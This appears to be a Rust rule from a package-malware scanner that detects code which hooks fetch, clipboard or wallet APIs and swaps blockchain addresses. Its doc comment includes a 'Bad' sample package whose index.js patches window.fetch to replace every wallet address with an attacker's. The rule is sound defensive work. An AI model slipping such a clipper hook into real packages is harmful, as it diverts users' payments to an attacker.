//! # Wallet addresses are looked for and replaced
//!
//! Code replaces a function of the browser or wallet, looks for addresses of block chains inside any text, and holds
//! addresses of its own.
//!
//! ## Why it matters
//!
//! A payment goes to the attacker while the screen shows the right address. In September 2025 this stood in chalk
//! and debug, with two thousand million downloads a week.
//!
//! ## Known benign uses
//!
//! Wallet libraries test whole texts for addresses and hold addresses of contracts. They neither search in texts nor
//! replace `fetch` or a wallet's functions.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! exports.red = (text) => text;
//! const own = "0x000000000000000000000000000000000000dEaD";
//! const any = /\b0x[a-fA-F0-9]{40}\b/g; //~ here
//! if (typeof window !== "undefined") {
//!   const real = window.fetch;
//!   window.fetch = async (...parts) => {
//!     const reply = await real(...parts);
//!     return new Response((await reply.text()).replace(any, own), reply);
//!   };
//! }
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const token = "0xdAC17F958D2ee523a2206206994597C13D831ec7";
//! exports.isAddress = (text) => /^0x[a-fA-F0-9]{40}$/.test(text);
//! exports.token = token;
//! ```
//!
//! ## References
//!
//! - Aikido: chalk, debug and others compromised (September 2025)

use std::collections::BTreeSet;

use crate::prelude::*;

/// Wallet addresses are looked for and replaced.
pub struct AddressReplaced;

impl Rule for AddressReplaced {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "address-replaced",
            title: "Wallet addresses are looked for and replaced",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1565.002",
            covers: &["impact-address-swap", "impact-browser-hook"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_hook = |api: &str| HOOKED.iter().any(|part| api.starts_with(part));
        let patches =
            facts.patches().iter().filter(|patch| is_hook(&patch.api)).map(|patch| patch.spot.script);
        let clips = facts
            .all_calls()
            .iter()
            .filter(|call| call.api.contains("clipboard"))
            .map(|call| call.spot.script);
        let numbers: BTreeSet<u32> = patches.chain(clips).collect();
        let is_hooking = !numbers.is_empty();
        let mut is_told = false;
        for script in numbers.into_iter().filter_map(|number| facts.scripts().get(number as usize)) {
            if script.trigger == Trigger::Dormant {
                continue;
            }
            let addresses = facts.addresses(&script.path);
            if let (Some(pattern), false) = (addresses.patterns.first(), addresses.constants.is_empty()) {
                found.at(script.trigger, pattern, "looks for wallet addresses in texts that it changes");
                is_told = true;
            }
        }
        // Its own addresses may be hidden, or stand in another file.
        let mut replaced = facts.replaced_addresses().iter().filter(|fact| fact.trigger != Trigger::Dormant);
        if let Some(fact) = replaced.next().filter(|_| is_hooking && !is_told) {
            let locus = facts.locus(fact.spot);
            found.at(fact.trigger, &locus, "replaces wallet addresses in texts that it changes");
        }
    }
}

/// What the clippers of the catalogue replace.
const HOOKED: &[&str] = &[
    "fetch",
    "XMLHttpRequest",
    "ethereum",
    "solana",
    "navigator.clipboard",
    "HTMLInputElement",
    "document.execCommand",
];
